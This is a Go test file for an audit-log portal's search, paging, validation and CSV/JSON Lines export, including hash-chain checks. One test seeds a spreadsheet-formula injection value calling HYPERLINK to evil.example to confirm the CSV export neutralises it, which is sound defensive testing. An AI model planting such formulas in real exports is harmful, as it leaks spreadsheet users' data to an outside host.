package handlers

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"net/http"
	"net/url"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"gatehouse/models"
	"gatehouse/models/dbtest"
)

// seedAudit appends n view events on workspace ws and returns them.
func (p *testPortal) seedAudit(ws string, n int) []models.AuditEvent {
	p.t.Helper()
	var evs []models.AuditEvent
	for i := range n {
		ev, err := models.AppendAudit(context.Background(), p.db.Write, models.AuditEntry{
			At: p.clock.Now(), Actor: models.Actor{Email: "sara.senior@example.com", Tier: "senior", IP: "192.0.2.7", RequestID: "req-" + strconv.Itoa(i)},
			Action: models.ActionDataViewed, Workspace: ws, Table: "members", RecordIDs: []string{strconv.Itoa(100 + i), "7"},
			Reason: "ticket <b>" + strconv.Itoa(i) + "</b>",
		})
		if err != nil {
			p.t.Fatal(err)
		}
		evs = append(evs, ev)
	}
	return evs
}

var seqAttr = regexp.MustCompile(`data-testid="audit-row" data-seq="(\d+)"`)

// pageSeqs returns the seqs of the rows an audit page shows, in order.
func pageSeqs(t *testing.T, body string) []int64 {
	t.Helper()
	var seqs []int64
	for _, m := range seqAttr.FindAllStringSubmatch(body, -1) {
		n, _ := strconv.ParseInt(m[1], 10, 64)
		seqs = append(seqs, n)
	}
	return seqs
}

var hrefOf = regexp.MustCompile(`href="([^"]*)"[^>]*data-testid="audit-(newer|older|first)"`)

// pagerLinks returns the newer and older links of an audit page.
func pagerLinks(body string) map[string]string {
	links := map[string]string{}
	for _, m := range hrefOf.FindAllStringSubmatch(body, -1) {
		links[m[2]] = strings.ReplaceAll(m[1], "&amp;", "&")
	}
	return links
}

func seqRange(from, to int64) []int64 { // from down to to
	var s []int64
	for i := from; i >= to; i-- {
		s = append(s, i)
	}
	return s
}

func TestAuditPageSearchAndPaging(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, db *models.DB) {
		p := newPortal(t, db)
		evs := p.seedAudit("acme", 60)
		other := p.seedAudit("globex", 1)
		first, last := evs[0].Seq, evs[59].Seq
		for _, who := range []string{"aud.auditor@example.com", "ada.sysadmin@example.com"} {
			t.Run(who, func(t *testing.T) {
				c := p.login(who)
				resp, body := p.get(c, "/audit?workspace=acme")
				if resp.StatusCode != http.StatusOK {
					t.Fatalf("GET /audit = %d, want 200", resp.StatusCode)
				}
				if got, want := pageSeqs(t, body), seqRange(last, last-49); !slices.Equal(got, want) {
					t.Fatalf("first page seqs %v, want %v", got, want)
				}
				if strings.Contains(body, "<b>") || !strings.Contains(body, "ticket &lt;b&gt;59&lt;/b&gt;") {
					t.Error("reason is not shown escaped")
				}
				if !strings.Contains(body, `<input type="hidden" name="workspace" value="acme">`) {
					t.Error("the export form does not carry the workspace filter")
				}
				links := pagerLinks(body)
				if links["newer"] != "" || links["older"] == "" {
					t.Fatalf("first page links %v, want only older", links)
				}
				_, body = p.get(c, links["older"])
				if got, want := pageSeqs(t, body), seqRange(first+9, first); !slices.Equal(got, want) {
					t.Fatalf("older page seqs %v, want %v", got, want)
				}
				links = pagerLinks(body)
				if links["older"] != "" || links["newer"] == "" || links["first"] != "/audit?workspace=acme" {
					t.Fatalf("last page links %v, want newer and the first page", links)
				}
				_, body = p.get(c, links["newer"])
				if got, want := pageSeqs(t, body), seqRange(last, last-49); !slices.Equal(got, want) {
					t.Errorf("back to newer: seqs %v, want %v", got, want)
				}

				filters := []struct {
					query string
					want  []int64
				}{
					{"workspace=globex", []int64{other[0].Seq}},
					{"record=105&workspace=acme", []int64{evs[5].Seq}},
					{"action=data.viewed&actor=sara.senior%40example.com&workspace=globex", []int64{other[0].Seq}},
					{"action=staff.offboarded&workspace=acme", nil},
					{"since=" + url.QueryEscape(p.clock.Now().Add(time.Minute).Format(time.RFC3339)), nil},
					{"workspace=globex&until=" + p.clock.Now().Format("2006-01-02"), []int64{other[0].Seq}},
				}
				for _, f := range filters {
					resp, body := p.get(c, "/audit?"+f.query)
					if got := pageSeqs(t, body); resp.StatusCode != http.StatusOK || !slices.Equal(got, f.want) {
						t.Errorf("/audit?%s = %d %v, want 200 %v", f.query, resp.StatusCode, got, f.want)
					}
				}
			})
		}
	})
}

func TestAuditBadFilters(t *testing.T) {
	db := dbtest.SQLite(t)
	p := newPortal(t, db)
	p.seedAudit("acme", 2)
	c := p.login("aud.auditor@example.com")
	tests := []struct {
		query, field string
	}{
		{"since=yesterday", "since"},
		{"until=2026-02-30", "until"},
		{"since=2026-03-02&until=2026-03-01", "until"},
		{"action=data.deleted", "action"},
		{"actor=" + strings.Repeat("a", 400), "actor"},
	}
	for _, tt := range tests {
		resp, body := p.get(c, "/audit?"+tt.query)
		if resp.StatusCode != http.StatusUnprocessableEntity {
			t.Errorf("GET /audit?%.40s = %d, want 422", tt.query, resp.StatusCode)
		}
		if !strings.Contains(body, `data-testid="error-`+tt.field+`"`) || !strings.Contains(body, `data-testid="audit-filter"`) {
			t.Errorf("GET /audit?%.40s: no form with a message for %q", tt.query, tt.field)
		}
		if len(pageSeqs(t, body)) != 0 {
			t.Errorf("GET /audit?%.40s shows events despite the bad filter", tt.query)
		}
	}
	exports := p.count("audit_events", "action = ?", string(models.ActionAuditExported))
	for _, form := range []url.Values{
		{"format": {"xml"}},
		{"format": {"csv"}, "since": {"last week"}},
		{"format": {"jsonl"}, "action": {"nope"}},
	} {
		resp, body := p.post(c, "/audit/export", form)
		if resp.StatusCode != http.StatusUnprocessableEntity || !strings.Contains(body, `data-testid="audit-filter"`) {
			t.Errorf("POST /audit/export %v = %d, want 422 with the form", form, resp.StatusCode)
		}
	}
	if got := p.count("audit_events", "action = ?", string(models.ActionAuditExported)); got != exports {
		t.Errorf("refused exports were recorded: %d audit.exported events, want %d", got, exports)
	}
}

// TestAuditRefusesScans checks that a search no index serves (a record
// without its workspace) and a page link the portal did not make are
// answered 400 with a message and the form, show no event, and that the
// export refuses the same search before recording anything.
func TestAuditRefusesScans(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, db *models.DB) {
		p := newPortal(t, db)
		p.seedAudit("acme", 3)
		c := p.login("aud.auditor@example.com")
		seqCursor := (&models.Cursor{ID: "2"}).Encode()
		timeCursor := (&models.Cursor{ID: "2", Value: "2026-03-01T12:00:00Z"}).Encode()
		for _, tt := range []struct {
			query, field, message string
		}{
			{"record=105", "workspace", "Name the workspace of the record"},
			{"record=105&actor=sara.senior%40example.com", "workspace", "Name the workspace of the record"},
			{"before=abc", "", "The page link is not valid"},
			{"before=2", "", "The page link is not valid"},
			{"after=" + seqCursor + "&before=" + seqCursor, "", "The page link is not valid"},
			{"before=" + timeCursor, "", "The page link is not valid"},
			{"since=2026-01-01&before=" + seqCursor, "", "The page link is not valid"},
		} {
			resp, body := p.get(c, "/audit?"+tt.query)
			if resp.StatusCode != http.StatusBadRequest {
				t.Errorf("GET /audit?%.60s = %d, want 400", tt.query, resp.StatusCode)
			}
			if !strings.Contains(body, `data-testid="error-`+tt.field+`"`) || !strings.Contains(body, tt.message) || !strings.Contains(body, `data-testid="audit-filter"`) {
				t.Errorf("GET /audit?%.60s: no form with %q for %q", tt.query, tt.message, tt.field)
			}
			if len(pageSeqs(t, body)) != 0 {
				t.Errorf("GET /audit?%.60s shows events", tt.query)
			}
		}
		// The same search with its workspace, and a page link the portal made.
		resp, body := p.get(c, "/audit?record=105&workspace=acme&before="+seqCursor)
		if resp.StatusCode != http.StatusOK || len(pageSeqs(t, body)) != 0 {
			t.Errorf("GET /audit with the workspace = %d %v, want 200 and no event older than 2 for record 105", resp.StatusCode, pageSeqs(t, body))
		}
		events := p.count("audit_events", "1 = 1")
		for _, format := range []string{"csv", "jsonl"} {
			resp, body := p.post(c, "/audit/export", url.Values{"format": {format}, "record": {"105"}})
			if resp.StatusCode != http.StatusBadRequest || !strings.Contains(body, "Name the workspace of the record") {
				t.Errorf("export of a record without its workspace = %d, want 400 with the message", resp.StatusCode)
			}
		}
		if got := p.count("audit_events", "1 = 1"); got != events {
			t.Errorf("refused exports wrote %d audit events", got-events)
		}
	})
}

func TestAuditExport(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, db *models.DB) {
		p := newPortal(t, db)
		evs := p.seedAudit("acme", 3)
		p.seedAudit("globex", 2)
		c := p.login("aud.auditor@example.com")
		for _, format := range []string{"csv", "jsonl"} {
			t.Run(format, func(t *testing.T) {
				resp, body := p.post(c, "/audit/export", url.Values{"format": {format}, "workspace": {"acme"}, "since": {"2000-01-01"}})
				if resp.StatusCode != http.StatusOK {
					t.Fatalf("export = %d, want 200: %.300s", resp.StatusCode, body)
				}
				if got := resp.Header.Get("Cache-Control"); got != "no-store" {
					t.Errorf("Cache-Control = %q, want no-store", got)
				}
				if got := resp.Header.Get("Content-Disposition"); !strings.HasPrefix(got, "attachment;") || !strings.Contains(got, "."+format) {
					t.Errorf("Content-Disposition = %q, want an attachment .%s", got, format)
				}
				var got []models.AuditEvent
				if format == "csv" {
					rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
					if err != nil {
						t.Fatal(err)
					}
					if !slices.Equal(rows[0], models.AuditCSVHeader) {
						t.Fatalf("header %v", rows[0])
					}
					if last := rows[len(rows)-1]; last[0] != "#export_trailer" || last[1] != "count="+strconv.Itoa(len(evs)) {
						t.Errorf("last row %q, want the trailer counting %d", last, len(evs))
					}
					for _, r := range rows[1 : len(rows)-1] {
						seq, _ := strconv.ParseInt(r[0], 10, 64)
						at, err := time.Parse(time.RFC3339Nano, r[1])
						if err != nil {
							t.Fatal(err)
						}
						ev := models.AuditEvent{Seq: seq, At: at, Actor: r[2], ActorTier: r[3], Action: models.Action(r[4]), Workspace: r[5], Table: r[6],
							RecordIDs: r[7], Target: r[10], Reason: r[11], Detail: r[12], IP: r[13], UserAgent: r[14], RequestID: r[15], PrevHash: r[16], Hash: r[17]}
						got = append(got, ev)
					}
				} else {
					lines := strings.Split(strings.TrimSuffix(body, "\n"), "\n")
					if last := lines[len(lines)-1]; !strings.HasPrefix(last, `{"type":"export_trailer","count":`+strconv.Itoa(len(evs))+`,`) {
						t.Errorf("last line %s, want the trailer counting %d", last, len(evs))
					}
					for _, line := range lines[:len(lines)-1] {
						var r models.AuditRecord
						if err := json.Unmarshal([]byte(line), &r); err != nil {
							t.Fatalf("line %q: %v", line, err)
						}
						got = append(got, r.Event())
					}
				}
				if len(got) != len(evs) {
					t.Fatalf("exported %d events, want the %d of acme", len(got), len(evs))
				}
				for i, ev := range got {
					if ev.Seq != evs[i].Seq || ev.Workspace != "acme" || models.ChainHash(ev.PrevHash, ev) != evs[i].Hash {
						t.Errorf("exported event %d = %+v, want event %d unchanged (hash %s)", i, ev, evs[i].Seq, evs[i].Hash)
					}
				}
				newest, err := models.SearchAudit(context.Background(), p.db.Read, models.AuditQuery{Limit: 2})
				if err != nil {
					t.Fatal(err)
				}
				if f := newest[0]; f.Action != models.ActionAuditExportFinished || !strings.Contains(f.Detail, `"count":"3"`) {
					t.Errorf("newest event = %+v, want audit.export_finished counting 3", f)
				}
				n := newest[1]
				var detail map[string]string
				json.Unmarshal([]byte(n.Detail), &detail)
				if n.Action != models.ActionAuditExported || n.Actor != "aud.auditor@example.com" || n.ActorTier != "auditor" ||
					detail["format"] != format || detail["workspace"] != "acme" || detail["since"] != "2000-01-01" {
					t.Errorf("newest event = %+v, want audit.exported by the auditor with the filters", n)
				}
			})
		}
		if res, err := models.VerifyAudit(context.Background(), p.db); err != nil || !res.OK {
			t.Errorf("chain after exports: %+v, %v", res, err)
		}
	})
}

// TestAuditExportFailsClosed: when the export cannot be recorded, no
// event is sent.
func TestAuditExportFailsClosed(t *testing.T) {
	db := dbtest.SQLite(t)
	p := newPortal(t, db)
	p.seedAudit("acme", 2)
	c := p.login("aud.auditor@example.com")
	if err := db.Write.Exec(`CREATE TRIGGER no_export BEFORE INSERT ON audit_events WHEN NEW.action = 'audit.exported' BEGIN SELECT RAISE(ABORT, 'refused'); END`).Error; err != nil {
		t.Fatal(err)
	}
	resp, body := p.post(c, "/audit/export", url.Values{"format": {"jsonl"}})
	if resp.StatusCode != http.StatusServiceUnavailable || strings.Contains(body, "sara.senior") {
		t.Errorf("export with the audit write failing = %d (%.200s), want 503 with no events", resp.StatusCode, body)
	}
}

// TestAuditExportCSVCarriesNoFormulas: a reason or user agent that starts
// a spreadsheet formula reaches the CSV download neutralised by a leading
// "'", and the JSON Lines download exactly as stored.
func TestAuditExportCSVCarriesNoFormulas(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, db *models.DB) {
		p := newPortal(t, db)
		var stored []string
		for _, first := range []string{"=", "+", "-", "@", "\t", "\r"} {
			v := first + `HYPERLINK("https://evil.example/?"&A1)`
			stored = append(stored, v)
			_, err := models.AppendAudit(context.Background(), p.db.Write, models.AuditEntry{
				At: p.clock.Now(), Actor: models.Actor{Email: "sara.senior@example.com", Tier: "senior", UserAgent: v},
				Action: models.ActionDataViewed, Workspace: "acme", Table: "members", RecordIDs: []string{"7"}, Reason: v,
			})
			if err != nil {
				t.Fatal(err)
			}
		}
		c := p.login("aud.auditor@example.com")
		form := url.Values{"workspace": {"acme"}, "action": {string(models.ActionDataViewed)}}
		form.Set("format", "csv")
		_, body := p.post(c, "/audit/export", form)
		rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
		if err != nil || len(rows) != len(stored)+2 {
			t.Fatalf("CSV export: %d rows (%v), want a header, %d and the trailer:\n%.500s", len(rows), err, len(stored), body)
		}
		for i, v := range stored {
			if r := rows[i+1]; r[11] != "'"+v || r[14] != "'"+v {
				t.Errorf("CSV reason %q, user agent %q; want both %q", r[11], r[14], "'"+v)
			}
		}
		form.Set("format", "jsonl")
		_, body = p.post(c, "/audit/export", form)
		lines := strings.Split(strings.TrimSuffix(body, "\n"), "\n")
		if len(lines) != len(stored)+1 {
			t.Fatalf("JSON Lines export: %d lines, want %d and the trailer:\n%.500s", len(lines), len(stored), body)
		}
		lines = lines[:len(stored)]
		for i, line := range lines {
			var r models.AuditRecord
			if err := json.Unmarshal([]byte(line), &r); err != nil {
				t.Fatalf("line %q: %v", line, err)
			}
			if r.Reason != stored[i] || r.UserAgent != stored[i] {
				t.Errorf("JSON Lines reason %q, user agent %q; want both %q exactly", r.Reason, r.UserAgent, stored[i])
			}
		}
	})
}
